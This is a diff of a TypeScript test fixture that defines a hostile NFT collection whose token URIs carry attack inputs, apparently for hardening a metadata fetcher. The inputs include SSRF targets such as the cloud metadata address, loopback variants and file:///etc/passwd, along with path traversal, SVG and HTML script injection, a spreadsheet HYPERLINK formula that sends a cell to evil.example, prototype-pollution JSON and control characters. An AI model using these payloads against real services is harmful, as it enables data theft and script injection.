@@ -1,12 +1,12 @@
-/** The CIDv1 under which the gateway serves the hostile documents. */
+/** The CIDv1 of the hostile documents on the demo's gateway. */
 export const hostileFolder = "bafybeiffrgp2jemtxekg7lowty2nhdujb2n7qwkvljobyvp2acq2ghe5fe";
 
-/** How `tokenURI` responds for a token of the hostile collection; the position is the contract's number for it. */
+/** How `tokenURI` responds, in the order of the contract's enum `Answer`. */
 const answers = ["uri", "long", "revert", "endless", "noText"] as const;
 
 /** A token of the hostile collection. */
 export interface HostileToken {
-  /** The kind of attack; "sheep" for a harmless token. */
+  /** The kind of attack, or "harmless". */
   readonly kind: string;
   readonly answer: (typeof answers)[number];
   readonly uri: string;
@@ -16,19 +16,19 @@ export interface HostileToken {
 
 const json = (document: unknown): string => `data:application/json;base64,${Buffer.from(JSON.stringify(document)).toString("base64")}`;
 const plain = (text: string): string => `data:application/json,${encodeURIComponent(text)}`;
-const wolf = (kind: string, uri: string, answer: HostileToken["answer"] = "uri", length = 0): HostileToken => ({
+const hostile = (kind: string, uri: string, answer: HostileToken["answer"] = "uri", length = 0): HostileToken => ({
   kind,
   answer,
   uri,
   length,
 });
-const gateway = (kind: string, path = kind): HostileToken => wolf(kind, `ipfs://${hostileFolder}/${path}`);
+const gateway = (kind: string, path = kind): HostileToken => hostile(kind, `ipfs://${hostileFolder}/${path}`);
 
 const scriptedPicture =
   '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.domain)</script><foreignObject><iframe src="https://evil.example/"/></foreignObject></svg>';
 const page = "<!doctype html><html><body><script>alert(document.domain)</script></body></html>";
 
-const wolves: readonly HostileToken[] = [
+const attacks: readonly HostileToken[] = [
   gateway("huge"),
   gateway("slow"),
   gateway("redirect-to-loopback"),
@@ -41,18 +41,18 @@ const wolves: readonly HostileToken[] = [
   gateway("broken"),
   gateway("missing", "nowhere"),
   gateway("path-out-of-the-folder", "../../private"),
-  wolf("link-local", "http://169.254.169.254/latest/meta-data/"),
-  wolf("loopback", "https://127.0.0.1/private.json"),
-  wolf("loopback-by-name", "https://localhost/private.json"),
-  wolf("loopback-as-number", "http://2130706433/private.json"),
-  wolf("loopback-in-ipv6", "http://[::ffff:127.0.0.1]/private.json"),
-  wolf("file", "file:///etc/passwd"),
-  wolf(
+  hostile("link-local", "http://169.254.169.254/latest/meta-data/"),
+  hostile("loopback", "https://127.0.0.1/private.json"),
+  hostile("loopback-by-name", "https://localhost/private.json"),
+  hostile("loopback-as-number", "http://2130706433/private.json"),
+  hostile("loopback-in-ipv6", "http://[::ffff:127.0.0.1]/private.json"),
+  hostile("file", "file:///etc/passwd"),
+  hostile(
     "script-in-picture",
     json({ name: "Scripted", image: `data:image/svg+xml;base64,${Buffer.from(scriptedPicture).toString("base64")}` }),
   ),
-  wolf("script-in-plain-picture", json({ name: "Scripted too", image: `data:image/svg+xml;utf8,${scriptedPicture}` })),
-  wolf(
+  hostile("script-in-plain-picture", json({ name: "Scripted too", image: `data:image/svg+xml;utf8,${scriptedPicture}` })),
+  hostile(
     "javascript-links",
     json({
       name: "Linked",
@@ -61,8 +61,8 @@ const wolves: readonly HostileToken[] = [
       external_url: "data:text/html,<script>alert(3)</script>",
     }),
   ),
-  wolf("page-as-document", `data:text/html,${encodeURIComponent(page)}`),
-  wolf(
+  hostile("page-as-document", `data:text/html,${encodeURIComponent(page)}`),
+  hostile(
     "formula",
     json({
       name: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
@@ -73,7 +73,7 @@ const wolves: readonly HostileToken[] = [
       ],
     }),
   ),
-  wolf(
+  hostile(
     "control-characters",
     json({
       name: "\u202egnp.tnecnni\u202c \u2066\u200b\u001b[31mred\u0007\u0000 end",
@@ -81,37 +81,37 @@ const wolves: readonly HostileToken[] = [
       attributes: [{ trait_type: "\u202eedis", value: "\u0000" }],
     }),
   ),
-  wolf("half-characters", plain('{"name":"\\ud800 alone","attributes":[{"trait_type":"\\udc00","value":"\\ud83d"}]}')),
-  wolf(
+  hostile("half-characters", plain('{"name":"\\ud800 alone","attributes":[{"trait_type":"\\udc00","value":"\\ud83d"}]}')),
+  hostile(
     "absurd-attributes",
     plain(
       '{"name":"Absurd","attributes":[{"trait_type":"__proto__","value":"constructor"},{"trait_type":"Number","value":1e400},{"trait_type":"Number","value":123456789012345678901234567890},' +
         '{"trait_type":"Date","display_type":"date","value":9e15},{"trait_type":"","value":""},{"trait_type":{"a":1},"value":[[]]},null,[],{"__proto__":{"polluted":true}}],"__proto__":{"polluted":true}}',
     ),
   ),
-  wolf("names-of-other-types", plain('{"name":{"toString":"x"},"description":[1],"image":7,"external_url":{},"animation_url":false}')),
-  wolf("invalid-base64", "data:application/json;base64,@@@not*base64@@@"),
-  wolf("invalid-utf8", `data:application/json;base64,${Buffer.from([0x7b, 0xff, 0xfe, 0x80, 0x7d]).toString("base64")}`),
-  wolf("cut-off", 'data:application/json,{"name":"Cut off'),
-  wolf("no-object", 'data:application/json,"just a text"'),
-  wolf("empty", ""),
-  wolf("long", "https://long.example/", "long", 100_000),
-  wolf("reverting", "", "revert"),
-  wolf("endless", "", "endless"),
-  wolf("no-text", "", "noText"),
+  hostile("names-of-other-types", plain('{"name":{"toString":"x"},"description":[1],"image":7,"external_url":{},"animation_url":false}')),
+  hostile("invalid-base64", "data:application/json;base64,@@@not*base64@@@"),
+  hostile("invalid-utf8", `data:application/json;base64,${Buffer.from([0x7b, 0xff, 0xfe, 0x80, 0x7d]).toString("base64")}`),
+  hostile("cut-off", 'data:application/json,{"name":"Cut off'),
+  hostile("no-object", 'data:application/json,"just a text"'),
+  hostile("empty", ""),
+  hostile("long", "https://long.example/", "long", 100_000),
+  hostile("reverting", "", "revert"),
+  hostile("endless", "", "endless"),
+  hostile("no-text", "", "noText"),
 ];
 
-const wolvesPerSheep = 3;
+const attacksPerHarmless = 3;
 
-const sheep = (number: number): HostileToken =>
-  wolf("sheep", json({ name: `Sheep ${number}`, attributes: [{ trait_type: "Wool", value: ["Thick", "Thin"][number % 2] }] }));
+const harmless = (number: number): HostileToken =>
+  hostile("harmless", json({ name: `Sheep ${number}`, attributes: [{ trait_type: "Wool", value: ["Thick", "Thin"][number % 2] }] }));
 
-/** The tokens of the hostile collection in the order of their ids, from 1 on: with harmless tokens before, between and after the hostile ones. */
-export const hostileTokens: readonly HostileToken[] = wolves.flatMap((token, index) => {
-  const number = Math.floor(index / wolvesPerSheep) + 1;
-  const before = index % wolvesPerSheep === 0 ? [sheep(number)] : [];
-  return index === wolves.length - 1 ? [...before, token, sheep(number + 1)] : [...before, token];
+/** The tokens of the hostile collection in the order of their ids, which start at 1, with harmless tokens before, between and after the hostile ones. */
+export const hostileTokens: readonly HostileToken[] = attacks.flatMap((token, index) => {
+  const number = Math.floor(index / attacksPerHarmless) + 1;
+  const before = index % attacksPerHarmless === 0 ? [harmless(number)] : [];
+  return index === attacks.length - 1 ? [...before, token, harmless(number + 1)] : [...before, token];
 });
 
-/** The contract's number for a kind of response. */
+/** Returns the value of the contract's enum for a kind of response. */
 export const answerNumber = (answer: HostileToken["answer"]): number => answers.indexOf(answer);
